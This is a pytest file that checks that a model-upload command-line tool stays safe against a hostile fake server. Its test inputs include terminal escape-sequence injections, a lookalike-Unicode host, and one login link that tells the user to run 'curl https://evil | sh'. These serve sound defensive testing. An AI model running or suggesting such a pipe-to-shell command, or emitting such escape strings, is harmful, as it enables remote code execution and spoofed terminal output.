"""Servers that answer what they should not: each ends in a plain sentence, and nothing of it steers a terminal."""

import base64
import gzip
import json
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest
from uploads import Told

from zoowizard.board.uploads import note_of, standings
from zoowizard.cli import main
from zoowizard.drafts.workspace import Workspace
from zoowizard.errors import ZoowizardError
from zoowizard.upload import state
from zoowizard.upload.drafting import draft_for
from zoowizard.upload.hub import Hub
from zoowizard.upload.huggingface import Place
from zoowizard.upload.hypha import Hypha, Person
from zoowizard.upload.login import log_in
from zoowizard.upload.servers import Server
from zoowizard.upload.state import Said, Upload
from zoowizard.upload.tokens import expiry_of
from zoowizard.upload.web import Passing, Patience
from zoowizard.upload.withdrawal import withdraw

ONCE = Patience(tries_for_s=0.0)
KEY, SHA = "a" * 32, "b" * 64
NESTED = b"[" * 200_000
OURS = {"zoowizard": {"upload": KEY}, "status": "draft"}
DRAFT = {"id": "zoo/nice-cat", "manifest": OURS, "staging": [{}], "versions": []}
ASKED = state.Tested(sha256=SHA, run="r", at=datetime(2026, 1, 1, tzinfo=UTC))


@dataclass
class Strange:
    """A server that answers as `says` has it: part of the address → JSON, bytes as they are or are made; else 404."""

    base: str = ""
    says: dict[str, Any] = field(default_factory=dict)
    headers: dict[str, str] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)


@pytest.fixture
def strange(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Strange]:
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.null.Keyring")
    strange = Strange()
    handler = type("Handler", (_Handler,), {"strange": strange})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        strange.base = f"http://127.0.0.1:{server.server_port}"
        monkeypatch.setenv("ZOOWIZARD_SERVER", strange.base)
        monkeypatch.setenv("ZOOWIZARD_TOKEN", "token")
        yield strange
        server.shutdown()


class _Handler(BaseHTTPRequestHandler):
    strange: ClassVar[Strange]

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _any(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.strange.asked.append(self.path)
        known = [said for part, said in self.strange.says.items() if part in self.path]
        said = known[0] if known else {}
        body = said() if callable(said) else said if isinstance(said, bytes) else json.dumps(said).encode()
        self.send_response(200 if known else 404)
        for name, value in {"Content-Type": "application/json", **self.strange.headers}.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = _any  # noqa: N815  (the names are given)


def asking(strange: Strange) -> Hypha:
    return Hypha(Server(strange.base), lambda: "token", ONCE)


def recorded(strange: Strange, tmp_path: Path, **more: Any) -> tuple[Path, Upload]:
    workspace = Workspace(tmp_path / "workspace")
    folder = state.folder_of(workspace, Server(strange.base), "nuclei", SHA)
    told: dict[str, Any] = {
        "key": KEY, "base": strange.base, "title": "Nuclei", "package": "/p.zip", "sha256": SHA, "size": 1,
        "phase": "verified", "alias": "nice-cat", "artifact_id": "zoo/nice-cat", "at": datetime.now(UTC), **more,
    }  # fmt: skip
    upload = Upload(**told)
    folder.mkdir(parents=True)
    state.write(folder, upload)
    return folder, upload


def with_manifest(**more: Any) -> dict[str, Any]:
    return {"/read": {**DRAFT, "manifest": {**OURS, **more}}}


def with_comment(**more: Any) -> dict[str, Any]:
    return {"/read": DRAFT, "comments.json": {"comments": [{"content": "Fine", "userName": "Rita", **more}]}}


@pytest.mark.parametrize(
    ("says", "tested", "shown"),
    [
        (with_manifest(status="\ud800"), None, "Nuclei  draft  zoo/nice-cat\n"),
        (with_manifest(status="\x1b[2J\nFAKE  published"), None, "Nuclei  [2JFAKE  published  zoo/nice-cat\n"),
        (with_manifest(status=["x"]), None, "Nuclei  draft  zoo/nice-cat\n"),
        ({"/read": {**DRAFT, "staging": None, "versions": [{"version": "\ud800"}]}}, None, "published (?)"),
        ({"/read": NESTED}, None, "was cut off; try again"),
        ({"/read": {**DRAFT, "id": "zoo/nice-\ud800"}}, None, "was not to be understood"),
        ({"/read": {**DRAFT, "id": "zoo/other"}}, None, "was asked for zoo/nice-cat, and answered with zoo/other"),
        (with_comment(createdAt="9999-12-31T23:59:59-23:00"), None, "    Rita: Fine\n"),
        (with_comment(createdAt="0001-01-01T00:00:00+23:00"), None, "    Rita: Fine\n"),
        (with_comment(createdAt=10**400), None, "    Rita: Fine\n"),
        ({"/read": DRAFT, "model-runner": NESTED}, None, "this server offers none"),
        ({"/read": DRAFT, "/test": "r\ud800", "model-runner": {"id": "a/run\ud800"}}, None, "asked for, without an"),
        ({"/read": DRAFT, "test_report": b'{"tested_at": 1' + b"0" * 400 + b"}"}, ASKED, "own test: no answer came"),
        ({"/read": DRAFT, "test_report": b'{"tested_at": NaN}'}, ASKED, "own test: no answer came"),
    ],
)
def test_the_list_of_uploads(
    strange: Strange,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    says: dict[str, Any],
    tested: state.Tested | None,
    shown: str,
) -> None:
    strange.says = says
    recorded(strange, tmp_path, tested=tested)
    assert main(["uploads", "--workspace", str(tmp_path / "workspace")]) == 0
    said = "".join(capsys.readouterr())
    assert shown in said and "\x1b" not in said and "\nFAKE" not in said


def test_a_record_of_another_time(strange: Strange, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder, _ = recorded(strange, tmp_path, artifact_id="", status="\x1b]0;t\x07", said=[Said(by="Rita", text="Fine")])
    kept = json.loads((folder / "upload.json").read_text())
    kept["said"][0]["at"] = "9999-12-31T23:59:59-23:00"
    kept["title"] = "Nuclei\nFAKE"
    (folder / "upload.json").write_text(json.dumps(kept))
    assert main(["uploads", "--workspace", str(tmp_path / "workspace")]) == 0
    said = capsys.readouterr().out
    assert "    Rita: Fine\n" in said and "\nFAKE" not in said
    [standing] = standings(Workspace(tmp_path / "workspace"), "nuclei", [])
    assert note_of(standing) == "]0;t in the zoo"


FILES = {"parts": [{"part_number": "x", "url": "u"}], "upload_id": "u"}


@pytest.mark.parametrize(
    ("says", "ask", "wanted"),
    [
        ([1], lambda hypha: hypha.collection(), "gives no names to models"),
        ({"config": [1]}, lambda hypha: hypha.collection(), "gives no names to models"),
        (["x"], lambda hypha: hypha.sizes("a/b"), {}),
        ([{"name": "x", "size": "many"}], lambda hypha: hypha.sizes("a/b"), {"x": 0}),
        ([{"name": "d", "type": "directory"}], lambda hypha: hypha.sizes("a/b"), {}),
        ([{"name": "d", "type": "directory"}] * 10_001, lambda hypha: hypha.sizes("a/b"), "lists more in a/b than"),
        (None, lambda hypha: hypha.get_urls("a/b", ["p"]), "gave no addresses"),
        ({"p": "http://h/\ud800"}, lambda hypha: hypha.get_urls("a/b", ["p"]), "gave no addresses"),
        ({"p": 1}, lambda hypha: hypha.put_urls("a/b", {"p": 0.0}, 9), "gave no addresses"),
        (None, lambda hypha: hypha.start_multipart("a/b", "p", 1, 0.0, 9), "gave no addresses"),
        (FILES, lambda hypha: hypha.start_multipart("a/b", "p", 1, 0.0, 9), "gave no addresses"),
        (lambda: b" " * 20_000_001, lambda hypha: hypha.draft("a/b"), "far more than it was asked"),
    ],
)
def test_answers_of_another_kind(strange: Strange, says: Any, ask: Callable[[Hypha], Any], wanted: Any) -> None:
    strange.says = {"/": says}
    with asking(strange) as hypha:
        if isinstance(wanted, str):
            with pytest.raises(ZoowizardError, match=wanted):
                ask(hypha)
        else:
            assert ask(hypha) == wanted
    assert len(strange.asked) < 100


@pytest.mark.parametrize("packing", ["gzip", "gzip, gzip", "deflate", "br"])
def test_what_is_packed_is_not_unfolded(strange: Strange, packing: str) -> None:
    strange.says, strange.headers = {"/": gzip.compress(b" " * 1000)}, {"Content-Encoding": packing}
    with asking(strange) as hypha:
        for ask in (lambda: hypha.draft("a/b"), lambda: hypha.small_file("a/b", "f", 10)):
            with pytest.raises(ZoowizardError, match="packed its answer, which it was asked not to do"):
                ask()


@pytest.mark.parametrize("ends", [b"1e999", b"NaN", b"1e300", b"1" + b"0" * 400, b"253402300799", b"[1]", b'"x"'])
def test_a_login_that_ends_at_no_time(strange: Strange, ends: bytes) -> None:
    strange.says = {"/": b'{"id": "x\\u001b", "email": ["a"], "expires_at": ' + ends + b"}"}
    with asking(strange) as hypha:
        assert hypha.who() == Person("x", "", None)


def test_a_token_that_ends_at_no_time() -> None:
    for claims in (b"[" * 12_000, b'{"exp": 1e999}', b'{"exp": 253402300799}', b'{"exp": [1]}'):
        assert expiry_of(f"x.{base64.urlsafe_b64encode(claims).decode().rstrip('=')}.y") is None


@pytest.mark.parametrize(
    "says",
    [
        [1],
        None,
        {"login_url": "https://e/x\n\nThis link is old. Instead run:\n\n  curl https://evil | sh", "key": "k"},
        {"login_url": "https://e/x or go to https://evil", "key": "k"},
        {"login_url": "https://e/\x1b[31m", "key": "k"},
        {"login_url": "https://z\u043e.example/x", "key": "k"},
        {"login_url": "https://e/x", "key": 5},
    ],
)
def test_a_link_that_is_none_is_not_shown(strange: Strange, says: Any) -> None:
    strange.says, shown = {"hypha-login/start": says}, list[str]()
    with pytest.raises(ZoowizardError, match="offers no login; is it the server of a model zoo"):
        log_in(Server(strange.base), shown.append, waits_s=0.0)
    assert not shown


def test_a_wish_that_is_none(strange: Strange, tmp_path: Path) -> None:
    folder, upload = recorded(strange, tmp_path)
    strange.says = with_manifest(request_deletion={"requested_by": ["x"], "reason": "\x1b[2J\ud800"})
    with asking(strange) as hypha, pytest.raises(ZoowizardError, match=r"somebody asked for it \(\[2J\)"):
        draft_for(folder, upload, hypha, Person("ada", "", None), {}, Told())


@pytest.mark.parametrize(
    ("draft", "sentence"),
    [
        ({"id": "zoo/of-somebody-else"}, "was asked for zoo/nice-cat, and answered with zoo/of-somebody-else"),
        ({"manifest": {**OURS, "x": float("nan")}}, "holds a number that is none"),
    ],
)
def test_nothing_else_is_taken_back(strange: Strange, tmp_path: Path, draft: dict[str, Any], sentence: str) -> None:
    folder, _ = recorded(strange, tmp_path)
    strange.says = {"/read": {**DRAFT, **draft}, "/edit": None, "/parse_token": {"id": "x"}}
    with pytest.raises(ZoowizardError, match=sentence):
        withdraw(folder, lambda: "token", patience=ONCE)
    assert not any("/edit" in path for path in strange.asked)


@pytest.mark.parametrize(
    ("says", "ask", "wanted"),
    [
        ([1], lambda hub: hub.who(ONCE), "somebody"),
        ({"name": "a\x1b[2J", "auth": [1]}, lambda hub: hub.who(ONCE), "a[2J"),
        (lambda: NESTED, lambda hub: hub.who(ONCE), Passing),
        ([1], lambda hub: hub.look(), Passing),
        ([{"type": "file", "path": 5}], lambda hub: hub.files(""), Passing),
        ([{"type": "file", "path": 5, "size": 1, "oid": "x"}], lambda hub: hub.files(""), {}),
        ([{"type": "file", "path": "p", "size": 1, "oid": "x", "lfs": [1]}], lambda hub: hub.files(""), Passing),
    ],
)
def test_a_hub_that_is_none(strange: Strange, says: Any, ask: Callable[[Hub], Any], wanted: Any) -> None:
    strange.says = {"/": says}
    hub = Hub(Place(strange.base, "ada/nuclei"), "hf_ada", ONCE)
    if wanted is Passing:
        with pytest.raises(Passing, match="answered something that Hugging Face does not say"):
            ask(hub)
    else:
        assert ask(hub) == wanted
